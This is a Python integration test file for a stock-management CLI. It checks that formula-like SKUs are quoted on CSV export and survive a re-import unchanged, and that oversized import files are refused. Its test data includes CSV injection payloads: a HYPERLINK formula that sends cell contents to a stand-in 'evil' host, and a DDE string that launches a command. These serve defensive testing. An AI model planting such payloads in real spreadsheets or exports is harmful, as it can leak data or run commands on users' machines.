"""Through the CLI: stock files are safe to open in a spreadsheet, and bounded when read back.

* SKUs that are formulas, served by the demo store, leave ``export`` quoted (OWASP's rule) and
  come back through ``import`` as the same SKUs.
* ``import`` refuses a file over its size limit, saying the size, the limit and what to do,
  without reading it.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest

from backorder_desktop.demo.server import DemoStore
from backorder_desktop.domain.csv_cells import FORMULA_STARTS
from backorder_desktop.domain.errors import UserFacingError
from backorder_desktop.services.feed import MAX_IMPORT_BYTES
from backorder_desktop.services.profile import Profile
from tests.integration.cli_runner import run_cli

MakeStore = Callable[..., DemoStore]
MakeContext = Callable[..., Profile]

HOSTILE_SKUS = [
    '=HYPERLINK("http://evil/"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "'=quoted already",
    "-7",  # a plain number: not a formula, written as it is
]


def _create_products(store: DemoStore, skus: list[str]) -> dict[str, int]:
    """Products with these SKUs, created through the store's catalog API: SKU -> product id."""
    ids: dict[str, int] = {}
    with httpx.Client(base_url=store.base_url + "/", headers={"X-Auth-Token": store.token}) as api:
        for index, sku in enumerate(skus):
            body = {
                "name": f"Hostile {index}",
                "type": "physical",
                "weight": 1,
                "price": 5.0,
                "sku": sku,
                "inventory_tracking": "product",
                "inventory_level": 10 + index,
            }
            reply = api.post("v3/catalog/products", json=body)
            assert reply.status_code == 200, reply.text
            ids[sku] = reply.json()["data"]["id"]
    return ids


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_formula_skus_are_quoted_in_the_export_and_imported_back_as_the_same_skus(
    home: str, tmp_path: Path, make_demo_store: MakeStore, make_context: MakeContext
) -> None:
    store = make_demo_store(products=20)
    ids = _create_products(store, HOSTILE_SKUS)
    make_context(store).close()  # the profile, connected to the store
    env = {"BACKORDER_DESKTOP_TOKEN": store.token}
    synced = run_cli(home, "sync", env=env)
    assert synced.code == 0, synced.stderr
    assigned = run_cli(home, "assign", *(str(i) for i in ids.values()), env=env)
    assert assigned.code == 0, assigned.stderr

    exported_path = tmp_path / "stock.csv"
    exported = run_cli(home, "export", str(exported_path), env=env)
    assert exported.code == 0, exported.stderr
    header, *rows = _rows(exported_path)
    assert header[:2] == ["sku", "quantity"]
    cells = {sku: "'" + sku for sku in HOSTILE_SKUS[:-1]} | {"-7": "-7"}
    assert sorted((row[0], row[1]) for row in rows) == sorted(
        (cells[sku], str(10 + index)) for index, sku in enumerate(HOSTILE_SKUS)
    )
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and cell != "-7"] == []

    unchanged = run_cli(home, "import", str(exported_path), env=env)
    assert unchanged.code == 0, unchanged.stderr
    assert f"{len(HOSTILE_SKUS)} rows: 0 changes to apply, {len(HOSTILE_SKUS)} unchanged." in unchanged.stdout
    assert "Unknown" not in unchanged.stderr

    wanted = {sku: 100 + index for index, sku in enumerate(HOSTILE_SKUS)}
    edited = tmp_path / "edited.csv"
    with edited.open("w", encoding="utf-8", newline="") as out:  # new quantities, the SKU cells as exported
        csv.writer(out).writerows([["sku", "quantity"], *([cells[sku], str(n)] for sku, n in wanted.items())])
    applied = run_cli(home, "import", str(edited), "--apply", env=env)
    assert applied.code == 0, applied.stderr
    assert "Unknown" not in applied.stderr
    assert f"{len(HOSTILE_SKUS)} rows: {len(HOSTILE_SKUS)} changes applied, 0 unchanged." in applied.stdout
    levels = {item.sku: item.level for item in make_context(store).parts.mirror.stock_items()}
    assert levels == wanted


def test_a_file_over_the_limit_is_refused_with_its_size_and_what_to_do(
    home: str, tmp_path: Path, make_demo_store: MakeStore, make_context: MakeContext
) -> None:
    store = make_demo_store(products=20)
    make_context(store).close()
    big = tmp_path / "big.csv"
    with big.open("wb") as out:  # sparse: no disk used, and the CLI must not read it to refuse it
        out.write(b"sku,quantity\n")
        out.truncate(MAX_IMPORT_BYTES + 1)

    refused = run_cli(home, "import", str(big), env={"BACKORDER_DESKTOP_TOKEN": store.token})

    assert refused.code == 1
    line = refused.stderr.strip().splitlines()[-1]
    assert line.startswith(
        "File too large: The file is 50.0 MB (50,000,001 bytes); at most 50.0 MB (50,000,000 bytes) can be "
        "imported at once."
    )
    assert "Split it into smaller files" in line and "Nothing was changed." in line


def test_a_pipe_over_the_limit_is_refused_after_the_limit(
    make_demo_store: MakeStore, make_context: MakeContext
) -> None:
    context = make_context(make_demo_store(products=20))
    read, write = os.pipe()
    os.write(write, b"sku,quantity\n" + b"A,1\n" * 20)  # 93 bytes, within the pipe's buffer
    os.close(write)
    with os.fdopen(read, "rb") as pipe, pytest.raises(UserFacingError) as refused:
        context.parts.feed.import_csv(pipe, apply=True, actor="test", max_bytes=50)
    assert refused.value.title == "File too large"
    assert refused.value.message.startswith(
        "The file is over 50 bytes; at most 50 bytes can be imported at once."
    )

    within = context.parts.feed.import_csv(
        io.BytesIO(b"sku,quantity\nA,1\n"), apply=False, actor="test", max_bytes=50
    )
    assert within.unknown == ["A"]
